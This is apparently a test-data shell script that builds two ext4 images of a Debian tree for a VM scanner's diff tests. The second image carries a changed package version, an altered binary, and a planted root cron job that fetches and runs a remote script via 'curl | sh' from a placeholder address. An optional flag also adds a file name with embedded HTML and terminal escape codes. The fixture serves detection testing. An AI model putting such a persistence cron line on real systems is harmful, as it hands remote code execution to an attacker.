#!/bin/sh
# SPDX-License-Identifier: BSD-3-Clause
# Two builds of a small Debian 12 machine, for the tests that compare
# scans (test-diff.sh, test-baseline.sh): "clean", make-planted.sh's
# stock tree (this host's packages and their dpkg database), and
# "build2", the same with one package upgraded (grep's Version in
# /var/lib/dpkg/status gains "+vmscan1"), one packaged file changed
# (/usr/bin/sed, whose md5sums entry no longer matches) and a planted
# cron job (/etc/cron.d/vmscan-update).  With --hostile, build2 also
# holds a file with a hostile name under /srv.
#
# Usage: tests/data/make-builds.sh WORKDIR [--hostile]
#
# Writes WORKDIR/clean and WORKDIR/build2 (the trees) and WORKDIR/a.raw
# and WORKDIR/b.raw (ext4 images of them, no partition table).  Exit 3
# when the host has no grep package to upgrade; needs root (owners and
# capabilities), mke2fs, e2fsck, python3.
set -eu
export LC_ALL=C
PATH=$PATH:/sbin:/usr/sbin

[ "$#" -ge 1 ] || { echo "usage: $0 WORKDIR [--hostile]" >&2; exit 2; }
here=$(cd "$(dirname "$0")" && pwd)
cd "$1"
hostile=${2:-}

"$here/make-planted.sh" . > make.log 2>&1 \
  || { tail -n 20 make.log >&2; echo "make-planted.sh failed" >&2; exit 1; }
[ -d clean/var/lib/dpkg ] || { echo "make-planted.sh left no clean tree" >&2
                               exit 1; }
grep -q '^Package: grep$' clean/var/lib/dpkg/status || exit 3

rm -rf build2
cp -a clean build2
python3 - build2/var/lib/dpkg/status <<'PY'
import sys
p = sys.argv[1]
s = open(p, encoding='utf-8', errors='surrogateescape').read()
out = []
for block in s.split('\n\n'):
    if 'Package: grep\n' in block + '\n':
        block = '\n'.join(l + '+vmscan1' if l.startswith('Version: ') else l
                          for l in block.split('\n'))
    out.append(block)
open(p, 'w', encoding='utf-8', errors='surrogateescape').write('\n\n'.join(out))
PY
printf '\n# rebuilt\n' >> build2/usr/bin/sed
cat > build2/etc/cron.d/vmscan-update <<'CRON'
*/5 * * * * root curl -s http://203.0.113.7/u.sh | sh
CRON
chmod 0644 build2/etc/cron.d/vmscan-update
if [ "$hostile" = --hostile ]; then
  mkdir -p build2/srv
  printf 'x\n' > "build2/srv/$(printf 'evil\n<b>name\033[31m')"
fi

mkfs () {
  size=$(( $(du -sm "$1" | cut -f1) * 14 / 10 + 64 ))
  rm -f "$2"
  truncate -s "${size}M" "$2"
  mke2fs -q -F -t ext4 -L vmscan-root -d "$1" "$2" && e2fsck -fn "$2" > /dev/null
}
mkfs clean a.raw || { echo "mke2fs of the first build failed" >&2; exit 1; }
mkfs build2 b.raw || { echo "mke2fs of the second build failed" >&2; exit 1; }
